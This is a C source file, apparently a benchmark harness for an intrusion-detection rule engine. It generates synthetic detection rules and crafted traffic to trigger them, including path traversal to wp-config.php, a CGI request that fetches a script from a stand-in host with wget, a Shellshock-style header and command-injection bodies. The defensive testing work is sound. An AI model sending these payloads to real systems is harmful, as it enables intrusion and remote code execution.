/*
 * The generated rule universe.  Rule i has shape i % 10:
 *
 *  0  port 80      literal, nocase                    "/app{i}/admin.php"
 *  1  port 8080    literal with depth (stream start)  "POST /api/v{i}/exec", depth 64
 *  2  any port     relative chain                     "Host: svc{i}.internal" -> "cmd=" within 400
 *  3  port 80      literal + negation                 "/upload{i}.jsp", no "Authorization:" (nocase)
 *  4  any port     literal + regex (flags i)          "/wp-content/plugins/plg{i}/" + regex
 *  5  port 443     hex with depth -> relative literal 16 03 at 0 -> "sni{i}.example.net" within 512
 *  6  80,8080 to_client  relative chain               "X-Powered-By: Frame{i}" -> "<script>eval(" within 2000
 *  7  80,8080      literal with offset, nocase        "User-Agent: scanner{i}", offset 16
 *  8  any port     relative chain                     "/cgi-bin/t{i}.cgi" -> "wget%20" within 300
 *  9  any port     negative distance (look-back)      "echo{i}() {" <- "User-Agent:" distance -80 within 80
 *
 * Every fourth rule is also in performance mode, every fifth is detect-only.
 * The short second conditions ("cmd=", "Authorization:", "<script>eval(",
 * "wget%20", "User-Agent:", 16 03) are shared by all rules of their shape, as
 * in real rule sets; "User-Agent:" and "Authorization:" occur in ordinary
 * traffic, so they exercise the library's match path on every request.
 */
#include "bench_rules.h"

#include <hs.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static const char *shape_names[BENCH_SHAPES] = {
    "port 80: literal nocase",
    "port 8080: literal depth 64",
    "any: chain within 400",
    "port 80: literal + negation",
    "any: literal + regex",
    "port 443: hex depth 2 -> literal within 512",
    "80,8080 to_client: chain within 2000",
    "80,8080: literal offset 16 nocase",
    "any: chain within 300",
    "any: look-back distance -80",
};

static unsigned shape_off_mask;

void rule_shapes_disable(unsigned mask)
{
    shape_off_mask = mask;
}

unsigned rule_shape(unsigned i)
{
    unsigned k = i % BENCH_SHAPES;
    return (shape_off_mask >> k) & 1 ? 0 : k;
}

const char *rule_shape_name(unsigned k)
{
    return k < BENCH_SHAPES ? shape_names[k] : "?";
}

static char *lit_expr(const char *bytes, size_t len)
{
    char *out = malloc(len * 4 + 1), *p = out;
    if (!out)
        return NULL;
    for (size_t i = 0; i < len; i++) {
        unsigned char c = (unsigned char)bytes[i];
        if ((c >= '0' && c <= '9') || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')) {
            *p++ = (char)c;
        } else {
            sprintf(p, "\\x%02x", c);
            p += 4;
        }
    }
    *p = 0;
    return out;
}

static char *dupstr(const char *s)
{
    size_t n = strlen(s) + 1;
    char *d = malloc(n);
    if (d)
        memcpy(d, s, n);
    return d;
}

typedef struct gen {
    bench_ruleset *rs;
    unsigned cap_all;
    int shared_seen[BENCH_SHAPES];
    int oom;
} gen;

static void add_all(gen *g, char *expr, unsigned flags)
{
    if (!expr) {
        g->oom = 1;
        return;
    }
    if (g->rs->n_all == g->cap_all) {
        unsigned ncap = g->cap_all ? g->cap_all * 2 : 64;
        bench_expr *na = realloc(g->rs->all, ncap * sizeof(*na));
        if (!na) {
            free(expr);
            g->oom = 1;
            return;
        }
        g->rs->all = na;
        g->cap_all = ncap;
    }
    g->rs->all[g->rs->n_all].expr = expr;
    g->rs->all[g->rs->n_all].flags = flags;
    g->rs->n_all++;
}

/* A literal condition as its own atom (mirrors the library: escaped bytes,
 * caseless for nocase, single-match when alone and without a window). */
static void add_lit(gen *g, const char *s, int nocase, int single)
{
    add_all(g, lit_expr(s, strlen(s)),
            (nocase ? HS_FLAG_CASELESS : 0u) | (single ? HS_FLAG_SINGLEMATCH : 0u));
}

/* A shared second condition: one atom for every rule of the shape. */
static void add_shared(gen *g, unsigned shape, const char *s, size_t len, int nocase)
{
    if (g->shared_seen[shape])
        return;
    g->shared_seen[shape] = 1;
    add_all(g, lit_expr(s, len), nocase ? HS_FLAG_CASELESS : 0u);
}

static void set_fast(gen *g, unsigned i, const char *s, int nocase)
{
    g->rs->fast[i].expr = lit_expr(s, strlen(s));
    g->rs->fast[i].flags = nocase ? HS_FLAG_CASELESS : 0u;
    if (!g->rs->fast[i].expr)
        g->oom = 1;
}

static void rule_yaml(gen *g, bench_buf *y, unsigned i)
{
    unsigned shape = rule_shape(i);
    static const char *sev[] = {"low", "medium", "high", "critical"};
    char lit[128];
    buf_fmt(y, "  - id: %u\n    name: \"bench rule %u (%s)\"\n    severity: %s\n",
            BENCH_RULE_ID_BASE + i, i, shape_names[shape], sev[i % 4]);
    if (i % 3 == 0)
        buf_fmt(y, "    cve: [CVE-2024-%u]\n", 10000 + i);
    if (i % 4 == 0)
        buf_str(y, "    modes: [performance, security]\n");
    if (i % 5 == 4)
        buf_str(y, "    action: detect\n");
    switch (shape) {
    case 0:
        snprintf(lit, sizeof(lit), "/app%u/admin.php", i);
        buf_fmt(y, "    ports: 80\n    match:\n      - {content: \"%s\", nocase: true}\n", lit);
        set_fast(g, i, lit, 1);
        add_lit(g, lit, 1, 1);
        break;
    case 1:
        snprintf(lit, sizeof(lit), "POST /api/v%u/exec", i);
        buf_fmt(y, "    ports: 8080\n    match:\n      - {content: \"%s\", depth: 64}\n", lit);
        set_fast(g, i, lit, 0);
        add_lit(g, lit, 0, 0);
        break;
    case 2:
        snprintf(lit, sizeof(lit), "Host: svc%u.internal", i);
        buf_fmt(y,
                "    match:\n      - {content: \"%s\"}\n"
                "      - {content: \"cmd=\", distance: 0, within: 400}\n",
                lit);
        set_fast(g, i, lit, 0);
        add_lit(g, lit, 0, 0);
        add_shared(g, shape, "cmd=", 4, 0);
        break;
    case 3:
        snprintf(lit, sizeof(lit), "/upload%u.jsp", i);
        buf_fmt(y,
                "    ports: 80\n    match:\n      - {content: \"%s\"}\n"
                "      - {content: \"Authorization:\", nocase: true, negate: true}\n",
                lit);
        set_fast(g, i, lit, 0);
        add_lit(g, lit, 0, 1);
        if (!g->shared_seen[shape]) {
            g->shared_seen[shape] = 1;
            add_lit(g, "Authorization:", 1, 1);
        }
        break;
    case 4: {
        snprintf(lit, sizeof(lit), "/wp-content/plugins/plg%u/", i);
        buf_fmt(y,
                "    match:\n      - {content: \"%s\"}\n"
                "      - {regex: '/wp-content/plugins/plg%u/[a-z_]+\\.php\\?[a-z]+=\\.\\./', "
                "flags: i}\n",
                lit, i);
        set_fast(g, i, lit, 0);
        add_lit(g, lit, 0, 1);
        char re[160];
        snprintf(re, sizeof(re), "(?:/wp-content/plugins/plg%u/[a-z_]+\\.php\\?[a-z]+=\\.\\./)", i);
        add_all(g, dupstr(re), HS_FLAG_CASELESS | HS_FLAG_SINGLEMATCH);
        break;
    }
    case 5:
        snprintf(lit, sizeof(lit), "sni%u.example.net", i);
        buf_fmt(y,
                "    ports: 443\n    match:\n      - {hex: \"16 03\", depth: 2}\n"
                "      - {content: \"%s\", distance: 0, within: 512}\n",
                lit);
        set_fast(g, i, lit, 0);
        add_lit(g, lit, 0, 0);
        add_shared(g, shape, "\x16\x03", 2, 0);
        break;
    case 6:
        snprintf(lit, sizeof(lit), "X-Powered-By: Frame%u", i);
        buf_fmt(y,
                "    ports: [80, 8080]\n    direction: to_client\n    match:\n"
                "      - {content: \"%s\"}\n"
                "      - {content: \"<script>eval(\", distance: 0, within: 2000}\n",
                lit);
        set_fast(g, i, lit, 0);
        add_lit(g, lit, 0, 0);
        add_shared(g, shape, "<script>eval(", 13, 0);
        break;
    case 7:
        snprintf(lit, sizeof(lit), "User-Agent: scanner%u", i);
        buf_fmt(y,
                "    ports: \"80,8080\"\n    match:\n"
                "      - {content: \"%s\", offset: 16, nocase: true}\n",
                lit);
        set_fast(g, i, lit, 1);
        add_lit(g, lit, 1, 0);
        break;
    case 8:
        snprintf(lit, sizeof(lit), "/cgi-bin/t%u.cgi", i);
        buf_fmt(y,
                "    match:\n      - {content: \"%s\"}\n"
                "      - {content: \"wget%%20\", distance: 0, within: 300}\n",
                lit);
        set_fast(g, i, lit, 0);
        add_lit(g, lit, 0, 0);
        add_shared(g, shape, "wget%20", 7, 0);
        break;
    default:
        snprintf(lit, sizeof(lit), "echo%u() {", i);
        buf_fmt(y,
                "    match:\n      - {content: \"%s\"}\n"
                "      - {content: \"User-Agent:\", distance: -80, within: 80}\n",
                lit);
        set_fast(g, i, lit, 0);
        add_lit(g, lit, 0, 0);
        add_shared(g, shape, "User-Agent:", 11, 0);
        break;
    }
}

int ruleset_generate(bench_ruleset *rs, unsigned n)
{
    memset(rs, 0, sizeof(*rs));
    rs->n = n;
    rs->ids = calloc(n ? n : 1, sizeof(uint32_t));
    rs->fast = calloc(n ? n : 1, sizeof(bench_expr));
    if (!rs->ids || !rs->fast)
        return -1;
    gen g;
    memset(&g, 0, sizeof(g));
    g.rs = rs;
    bench_buf y = {0};
    buf_fmt(&y, "format: 1\nruleset: vpbench-%u\nrules:\n", n);
    for (unsigned i = 0; i < n; i++) {
        rs->ids[i] = BENCH_RULE_ID_BASE + i;
        rule_yaml(&g, &y, i);
    }
    if (y.oom || g.oom) {
        buf_free(&y);
        return -1;
    }
    rs->yaml = (char *)y.p;
    rs->yaml_len = y.len;
    return 0;
}

void ruleset_free(bench_ruleset *rs)
{
    if (rs->fast)
        for (unsigned i = 0; i < rs->n; i++)
            free(rs->fast[i].expr);
    for (unsigned i = 0; i < rs->n_all; i++)
        free(rs->all[i].expr);
    free(rs->fast);
    free(rs->all);
    free(rs->ids);
    free(rs->yaml);
    memset(rs, 0, sizeof(*rs));
}

/* A TLS ClientHello record carrying `sni` (structure is plausible, not exact). */
static void tls_hello(bench_buf *out, const char *sni)
{
    size_t sl = strlen(sni);
    size_t body = 2 + 32 + 1 + 2 + 2 + 1 + 1 + 2 + 9 + sl;
    uint8_t h[64];
    size_t k = 0;
    h[k++] = 0x16; h[k++] = 0x03; h[k++] = 0x01;
    h[k++] = (uint8_t)((body + 4) >> 8); h[k++] = (uint8_t)(body + 4);
    h[k++] = 0x01; h[k++] = 0; h[k++] = (uint8_t)(body >> 8); h[k++] = (uint8_t)body;
    h[k++] = 0x03; h[k++] = 0x03;
    buf_add(out, h, k);
    for (int i = 0; i < 32; i++)
        buf_add(out, "\x5a", 1);
    buf_add(out, "\x00\x00\x02\x13\x01\x01\x00", 7);
    uint8_t ext[9] = {0x00, 0x00, (uint8_t)((sl + 5) >> 8), (uint8_t)(sl + 5),
                      (uint8_t)((sl + 3) >> 8), (uint8_t)(sl + 3), 0x00,
                      (uint8_t)(sl >> 8), (uint8_t)sl};
    buf_add(out, "\x00", 1);
    buf_add(out, ext, sizeof(ext));
    buf_str(out, sni);
}

int rule_trigger(unsigned i, uint16_t port, int to_client, int tls, int at_start, int has_auth,
                 bench_buf *out)
{
    unsigned shape = rule_shape(i);
    int web = port == 80 || port == 8080;
    switch (shape) {
    case 0:
        if (port != 80 || to_client)
            return 0;
        buf_fmt(out, "GET /APP%u/Admin.PHP?debug=1 HTTP/1.1\r\nHost: intranet\r\n\r\n", i);
        return 1;
    case 1:
        if (port != 8080 || to_client || !at_start)
            return 0;
        buf_fmt(out,
                "POST /api/v%u/exec HTTP/1.1\r\nHost: api\r\nContent-Length: 12\r\n\r\n"
                "{\"c\":\"id\"}\r\n",
                i);
        return 1;
    case 2:
        if (tls || to_client)
            return 0;
        buf_fmt(out,
                "POST /run HTTP/1.1\r\nHost: svc%u.internal\r\nContent-Type: "
                "application/x-www-form-urlencoded\r\nContent-Length: 9\r\n\r\ncmd=uname",
                i);
        return 1;
    case 3:
        if (port != 80 || to_client || has_auth)
            return 0;
        buf_fmt(out, "PUT /upload%u.jsp HTTP/1.1\r\nHost: files\r\nContent-Length: 4\r\n\r\n<%%>", i);
        return 1;
    case 4:
        if (tls || to_client)
            return 0;
        buf_fmt(out,
                "GET /wp-content/plugins/plg%u/download_file.php?file=../../wp-config.php "
                "HTTP/1.1\r\nHost: blog\r\n\r\n",
                i);
        return 1;
    case 5: {
        if (port != 443 || to_client || !at_start)
            return 0;
        char sni[64];
        snprintf(sni, sizeof(sni), "sni%u.example.net", i);
        tls_hello(out, sni);
        return 1;
    }
    case 6:
        if (!web || !to_client)
            return 0;
        buf_fmt(out,
                "HTTP/1.1 200 OK\r\nX-Powered-By: Frame%u\r\nContent-Type: text/html\r\n"
                "Content-Length: 52\r\n\r\n<html><script>eval(atob('YWxlcnQoMSk='))</script></html>",
                i);
        return 1;
    case 7:
        if (!web || to_client)
            return 0;
        buf_fmt(out, "GET /robots.txt HTTP/1.1\r\nHost: www\r\nUSER-AGENT: Scanner%u/2.1\r\n\r\n", i);
        return 1;
    case 8:
        if (tls || to_client)
            return 0;
        buf_fmt(out,
                "GET /cgi-bin/t%u.cgi?c=wget%%20http://203.0.113.9/x.sh HTTP/1.1\r\nHost: "
                "router\r\n\r\n",
                i);
        return 1;
    default:
        if (tls || to_client)
            return 0;
        buf_fmt(out, "GET /cgi-bin/status HTTP/1.1\r\nUser-Agent: echo%u() { :; }; /bin/id\r\n\r\n",
                i);
        return 1;
    }
}
